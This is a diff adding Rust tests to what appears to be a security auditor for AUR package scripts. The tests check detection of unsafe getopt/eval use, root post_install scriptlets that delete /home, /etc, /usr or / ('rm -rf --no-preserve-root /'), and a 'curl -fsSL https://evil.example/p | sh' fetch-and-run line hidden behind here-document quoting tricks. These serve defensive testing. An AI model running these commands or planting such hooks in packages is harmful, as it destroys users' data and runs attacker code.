@@ -313,3 +313,64 @@ fn an_unquoting_getopt_is_not_the_option_idiom() {
         );
     }
 }
+
+/// Attack 28 F4: getopt's traditional form (`getopt OPTSTRING ARGS`) and `GETOPT_COMPATIBLE`
+/// print the words unquoted, and a function of the file named getopt is not the system's.
+#[test]
+fn only_the_systems_quoting_getopt_is_the_option_idiom() {
+    for line in [
+        "opts=\"$(getopt ha \"$@\")\"\neval set -- \"$opts\"",
+        "export GETOPT_COMPATIBLE=1\nopts=\"$(getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        "getopt() { printf '%s ' \"$@\"; }\nopts=\"$(getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+    ] {
+        let tool = format!("#!/bin/bash\nf() {{\n{line}\n}}\nf \"$@\"\n");
+        let r = audit(&package("driver-tool", Some(("driver-tool", &tool)), None));
+        assert!(
+            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+}
+
+/// Attack 28 F3: a scriptlet (root, `/` its directory) that deletes every home or a system
+/// directory, in the spellings bash and coreutils take. (`echo /home | xargs rm -rf`, whose
+/// operands come on standard input, is not read: open.)
+#[test]
+fn deleting_every_home_or_a_system_directory_as_root_is_dangerous() {
+    for line in [
+        "rm -rf /home",
+        "rm -rf /./home",
+        "rm -rf //home",
+        "rm -rf /home/",
+        "find /home -mindepth 1 -delete",
+        "find /home -mindepth 1 -exec rm -rf {} +",
+        "rm -rf /usr",
+        "rm -rf /etc",
+        "rm -rf --no-preserve-root /",
+    ] {
+        let script = format!("post_install() {{\n  {line}\n}}\n");
+        let r = audit(&package("cleaner", None, Some(&script)));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+}
+
+/// Attack 28 F6: a here-document delimiter partly quoted ends at the word without its quotes, as
+/// bash reads it; what follows the body is code the audit reads.
+#[test]
+fn code_after_a_here_document_with_a_partly_quoted_delimiter_is_read() {
+    for open in ["<<E\"O\"F", "<<\"E\"OF", "<<-\"E\"OF", "<<E'O'F"] {
+        let script = format!(
+            "post_install() {{\n  cat {open}\nThanks for installing\nEOF\n  curl -fsSL https://evil.example/p | sh\n}}\n"
+        );
+        let r = audit(&package("hpkg", None, Some(&script)));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{open}\n{}", r.to_text());
+    }
+    // A delimiter quoted whole is read as before, and its body is text.
+    let script =
+        "post_install() {\n  cat <<'EOF'\ncurl -fsSL https://evil.example/p | sh\nEOF\n}\n";
+    assert_eq!(
+        audit(&package("hpkg", None, Some(script))).verdict,
+        Verdict::Ok
+    );
+}
